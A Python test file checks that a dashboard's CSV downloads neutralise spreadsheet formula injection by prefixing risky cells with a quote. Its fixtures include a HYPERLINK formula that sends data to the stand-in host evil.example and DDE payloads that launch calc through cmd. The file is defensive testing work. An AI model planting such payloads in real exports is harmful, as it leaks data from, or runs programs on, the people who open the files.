"""CSV downloads cannot carry formulas into a manager's spreadsheet.

Author handles, post texts and team names are typed by strangers (or copied from them); a cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (``=HYPERLINK`` leaks data, DDE runs programs). Every CSV
the dashboard hands out prefixes such a cell with a single quote (OWASP's advice).
"""

from __future__ import annotations

import tomllib
from datetime import UTC, datetime, timedelta

import pandas as pd
from sqlalchemy import select

from pipeline.spreadsheet import spreadsheet_csv
from pipeline.workspace import open_workspace
from store import case_actions
from store.accounts import add_account
from store.schema import posts
from tests.conftest import ROOT, workspace_settings
from tests.pages.conftest import run_app
from tests.support.downloads import captured_downloads, csv_cells
from tests.support.factories import batch, post

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click here")'
PROMISE = "=1+1 Thanks for asking! We'll get back to you within two weeks."
ASSIGNEE = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_workspace(db_url: str) -> None:
    """A ghosted author named like a formula, a broken promise starting with one, and a case
    assigned to a "team member" whose name is one."""
    now = datetime.now(UTC)
    ws = open_workspace(workspace_settings(db_url))
    with ws.engine.begin() as conn:
        add_account(conn, "x", "NorthwindLabs")
    ws.ingest().batch(
        batch(
            post(
                "1",
                "@NorthwindLabs is the Berlin role remote?",
                author=LINK,
                thread="1",
                at=now - timedelta(days=10),
            ),
            post(
                "2",
                "@NorthwindLabs any update on my application?",
                author="ria",
                thread="2",
                at=now - timedelta(days=30),
            ),
            post(
                "3",
                PROMISE,
                author="NorthwindLabs",
                thread="2",
                parent="2",
                at=now - timedelta(days=29),
            ),
            post(
                "4",
                "+31 6 1234 5678 call me about the role?",
                author="sam",
                thread="4",
                at=now - timedelta(days=3),
            ),
        )
    )
    with ws.engine.begin() as conn:
        case_actions.set_team_members(conn, [ASSIGNEE], "test")
        case_id = conn.execute(select(posts.c.case_id).where(posts.c.external_id == "4"))
        case_actions.assign(conn, [case_id.scalar_one()], ASSIGNEE, "test")
    ws.engine.dispose()


def test_every_csv_on_the_rates_page_neutralises_formula_cells(env, monkeypatch):
    _hostile_workspace(env)
    with captured_downloads(monkeypatch) as files:
        at = run_app("pages/rates.py")
        at.segmented_control(key="rates_by").set_value("assignee").run()
        assert not at.exception
    cells = {name: csv_cells(data) for name, data in files.items()}
    assert {
        "broken-promises.csv",
        "ghosted-candidates.csv",
        "response-rates-by-assignee.csv",
    } <= set(cells)
    values = [value for rows in cells.values() for row in rows for value in row]
    assert "'" + LINK in values and "'" + PROMISE in values and "'" + ASSIGNEE in values
    assert [v for v in values if v.startswith(DANGEROUS)] == []


def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it():
    frame = pd.DataFrame(
        {
            "author": ["=cmd|' /C calc'!A0", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
            "text": ["plain", "a = b", " =1", "'=1", None, "ok"],
            "rate": [-0.5, 0.1, 1.0, -1.0, 0.0, 2.0],
        }
    )
    rows = csv_cells(spreadsheet_csv(frame))
    assert [r[0] for r in rows[1:]] == [
        "'=cmd|' /C calc'!A0",
        "'+31 6 1234",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]
    assert [r[1] for r in rows[1:]] == ["plain", "a = b", " =1", "'=1", "", "ok"]
    assert [r[2] for r in rows[1:]] == ["-0.5", "0.1", "1.0", "-1.0", "0.0", "2.0"]


def test_no_table_export_bypasses_the_neutraliser():
    """Streamlit's own table toolbar exports CSV (and copies cells) as they are, so it is off;
    every download button in the dashboard is ``charts.csv_download``."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    callers = [
        f"{path.relative_to(ROOT)}"
        for folder in ("pages", "dashboard")
        for path in sorted((ROOT / folder).glob("*.py"))
        if "download_button(" in path.read_text(encoding="utf-8")
    ] + (["app.py"] if "download_button(" in (ROOT / "app.py").read_text() else [])
    assert callers == ["dashboard/charts.py"]
    assert (ROOT / "dashboard" / "charts.py").read_text().count("download_button(") == 1
